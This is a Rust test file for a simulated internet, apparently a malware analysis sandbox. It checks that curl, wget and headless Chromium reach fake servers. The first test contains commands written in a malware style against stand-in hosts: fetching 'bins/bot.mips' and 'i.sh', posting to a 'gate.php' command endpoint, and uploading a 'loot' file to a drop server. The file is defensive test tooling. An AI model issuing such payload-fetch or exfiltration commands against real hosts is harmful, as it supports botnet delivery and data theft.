//! The web: `curl`, `wget`, Chromium.

use super::client;
use crate::support::internet::VirtualInternet;
use crate::support::network::in_own_world;

#[test]
fn downloads_and_uploads_go_on_over_every_version_of_http() {
    in_own_world("internet::web::downloads_and_uploads_go_on_over_every_version_of_http");
    let internet = VirtualInternet::start("");
    let ca = internet.ca();
    for family in ["-4", "-6"] {
        let curl = |arguments: &str, url: &str| {
            client(&internet, &format!("curl {family} -sS -m 20 --cacert {ca} {arguments} {url}"))
        };
        let status = "-o body -w '%{http_code} %{http_version} %{content_type}'";
        for (arguments, scheme, version) in [
            ("--http1.0", "http", "1.1"),
            ("--http1.1", "http", "1.1"),
            ("--http2-prior-knowledge", "http", "2"),
            ("--http1.1", "https", "1.1"),
            ("--http2", "https", "2"),
        ] {
            let url = format!("{scheme}://dl.example.net/bins/bot.mips");
            let printed = curl(&format!("{arguments} {status}"), &url);
            assert!(printed.starts_with(&format!("200 {version}")), "{url} {arguments}: {printed}");
            let body = std::fs::read(internet.folder().join("body")).expect("a body");
            assert!(body.starts_with(b"\x7fELF"), "{url}: {:?}", &body[..body.len().min(16)]);
        }
        for (path, begins) in [
            ("/setup.exe", &b"MZ"[..]),
            ("/a.zip", b"PK"),
            ("/x.gif", b"GIF8"),
            ("/i.sh", b"#!"),
            ("/", b"<"),
        ] {
            curl(status, &format!("https://dl.example.net{path}"));
            let body = std::fs::read(internet.folder().join("body")).expect("a body");
            assert!(body.starts_with(begins), "{path}: {:?}", &body[..body.len().min(16)]);
        }
        let posted = curl(
            "-X POST --data-binary id=1 -o /dev/null -w '%{http_code}'",
            "http://dl.example.net/gate.php",
        );
        assert_eq!(posted, "200");
    }
    std::fs::write(internet.folder().join("loot"), vec![b'x'; 100_000]).expect("a file");
    client(&internet, "curl -sS -m 20 -T loot http://drop.example.net/loot");
    internet.events("sample.captured", |kept| kept.iter().any(|sample| sample["size"] == 100_000));
    let wget = client(
        &internet,
        &format!("wget -q --ca-certificate={ca} -O - https://dl.example.net/wget.sh"),
    );
    assert!(wget.starts_with("#!"), "{wget}");
    let requests = internet.events("http.request", |all| all.len() > 20);
    assert!(requests.iter().any(|request| request["target"] == "/gate.php"));
}

#[test]
fn connectivity_checks_and_questions_for_the_own_address_are_answered() {
    in_own_world(
        "internet::web::connectivity_checks_and_questions_for_the_own_address_are_answered",
    );
    let internet = VirtualInternet::start("");
    for (host, path, expected) in [
        ("connectivitycheck.gstatic.com", "/generate_204", " 204"),
        ("www.msftconnecttest.com", "/connecttest.txt", "Microsoft Connect Test 200"),
        ("detectportal.firefox.com", "/success.txt", "success"),
        ("captive.apple.com", "/hotspot-detect.html", "Success"),
        ("api.ipify.org", "/", "93.228.41.107"),
        ("icanhazip.com", "/", "93.228.41.107"),
        ("ip-api.com", "/json", "93.228.41.107"),
    ] {
        let printed = client(
            &internet,
            &format!("curl -4 -sS -m 20 -w ' %{{http_code}}' http://{host}{path}"),
        );
        assert!(printed.contains(expected), "{host}: {printed}");
    }
}

#[test]
fn a_browser_sees_three_sites() {
    in_own_world("internet::web::a_browser_sees_three_sites");
    let internet = VirtualInternet::start("");
    client(
        &internet,
        &format!(
            "mkdir -p .pki/nssdb
             certutil -d sql:.pki/nssdb -N --empty-password
             certutil -d sql:.pki/nssdb -A -t C,, -n authority -i {}",
            internet.ca()
        ),
    );
    for (scheme, host) in
        [("http", "news.example"), ("https", "shop.example"), ("https", "mail.example")]
    {
        let page = client(
            &internet,
            &format!(
                "chromium --headless=new --no-sandbox --disable-gpu --disable-quic --no-first-run \
                 --user-data-dir=profile-{host} --timeout=20000 --dump-dom {scheme}://{host}/ \
                 2>browser.log"
            ),
        );
        let site = host.split('.').next().expect("a label");
        let title = page.to_lowercase().contains(&format!("<title>welcome to {site}"));
        assert!(title, "{host}: {page}\n{}", client(&internet, "cat browser.log"));
    }
    internet.events("http.request", |all| {
        ["news.example", "shop.example", "mail.example"]
            .iter()
            .all(|host| all.iter().any(|request| request["host"] == *host))
    });
}
